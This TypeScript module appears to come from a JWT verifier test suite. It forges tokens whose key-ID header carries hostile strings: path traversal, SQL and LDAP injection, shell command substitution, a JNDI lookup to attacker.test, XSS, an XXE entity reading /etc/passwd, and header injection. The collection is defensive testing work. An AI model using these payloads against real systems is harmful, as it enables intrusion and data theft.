import { type Attack, type AttackRow, attacksOf } from './attack.js';
import type { AttackKit } from './attack-kit.js';
import { forge } from './forge.js';

/** What is no string. */
const values: readonly unknown[] = [1, 0, null, true, false, ['k'], [], { kid: 'k' }, {}, 1e21];

/** Names of no key, each of which somebody's code has taken for something else. */
const names: readonly (readonly [id: string, kid: string])[] = [
  ['empty', ''],
  ['space', ' '],
  ['path', '../../../../../../dev/null'],
  ['path-windows', '..\\..\\..\\windows\\win.ini'],
  ['path-absolute', '/proc/self/environ'],
  ['path-encoded', '%2e%2e%2fdev%2fnull'],
  ['sql', "' UNION SELECT 'key' -- "],
  ['sql-true', "x' OR '1'='1"],
  ['sql-drop', 'x; DROP TABLE keys'],
  ['nosql', '{"$ne":null}'],
  ['ldap', '*)(uid=*))(|(uid=*'],
  ['shell', '| /bin/sh -c id'],
  ['shell-substitution', '$(id)'],
  ['shell-backtick', '`id`'],
  ['template', '\u0024{7*7}{{7*7}}<%= 7*7 %>'],
  ['lookup', '\u0024{jndi:ldap://attacker.test/a}'],
  ['markup', '"><script>alert(1)</script>'],
  ['entity', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'],
  ['url', 'https://attacker.test/key.pem'],
  ['url-file', 'file:///etc/passwd'],
  ['url-data', 'data:text/plain,key'],
  ['proto', '__proto__'],
  ['constructor', 'constructor'],
  ['prototype', 'prototype'],
  ['to-string', 'toString'],
  ['has-own', 'hasOwnProperty'],
  ['keys', 'keys'],
  ['length', 'length'],
  ['zero', '0'],
  ['minus-one', '-1'],
  ['undefined', 'undefined'],
  ['null', 'null'],
  ['nan', 'NaN'],
  ['wildcard', '*'],
  ['expression', '.*'],
  ['nul', 'attack-ec\0'],
  ['line-break', 'x\r\nX-Injected: 1\r\n\r\n<html>'],
  ['escape', '\u001b[2J\u001b]0;x\u0007'],
  ['quote', '", error="none", realm="'],
  ['backslash', '\\"\\'],
  ['unicode', '\u2028\ud83d\ude00\u202e'],
  ['surrogate', '\ud800'],
  ['long', 'k'.repeat(5000)],
  ['case', 'ATTACK-EC'],
  ['space-behind', 'attack-ec '],
  ['space-before', ' attack-ec'],
  ['prefix', 'attack-e'],
  ['suffix', 'attack-ecx'],
  ['lookalike', 'attack-\u0435c'],
  ['zero-width', 'attack-\u200bec'],
  ['combined', 'ES256:attack-ec'],
  ['list', 'attack-ec,attack-rsa'],
];

/** A token of a published key, under a name that is not its own. */
const named = (kid: unknown) => (kit: AttackKit) => forge(kit, { header: { alg: 'ES256', kid }, signer: kit.keys.ec });

/** RFC 8725 §3.10: the name of a key comes from a stranger, and is a name and nothing else. */
export const keyIdAttacks: readonly Attack[] = attacksOf('key-id', 'RFC 8725 §3.10', [
  ...values.map(
    (kid, index): AttackRow => ({
      id: `value-${index}`,
      title: `a key name that is ${JSON.stringify(kid)}`,
      section: 'RFC 7515 §4.1.4',
      reason: 'key_id_invalid',
      token: named(kid),
    }),
  ),
  ...names.map(
    ([id, kid]): AttackRow => ({
      id: `name-${id}`,
      title: `the key name ${JSON.stringify(kid.slice(0, 60))}`,
      reason: 'key_unknown',
      token: named(kid),
    }),
  ),
  {
    id: 'delimiter',
    title: 'the key name of the issuer with algorithm and issuer joined to it',
    reason: 'key_unknown',
    token: (kit) => named(`${kit.keys.ec.kid}:${kit.issuer.issuer}`)(kit),
  },
  {
    id: 'missing',
    title: "no key name, under the attacker's signature",
    section: 'RFC 7515 §4.1.4',
    reason: 'signature_invalid',
    token: (kit) => forge(kit, { header: { alg: 'ES256', kid: undefined }, signer: kit.keys.outsider }),
  },
  {
    id: 'nameless',
    title: 'a key name, under the signature of a key that is published without one',
    section: 'RFC 7517 §4.5',
    reason: 'key_unknown',
    token: (kit) => forge(kit, { header: { alg: 'ES256', kid: kit.keys.nameless.kid }, signer: kit.keys.nameless }),
  },
  {
    id: 'unpublished',
    title: 'a key that was never published, under its own name',
    section: 'RFC 9068 §4',
    reason: 'key_unknown',
    token: (kit) => kit.issuer.unknownKey(),
  },
]);
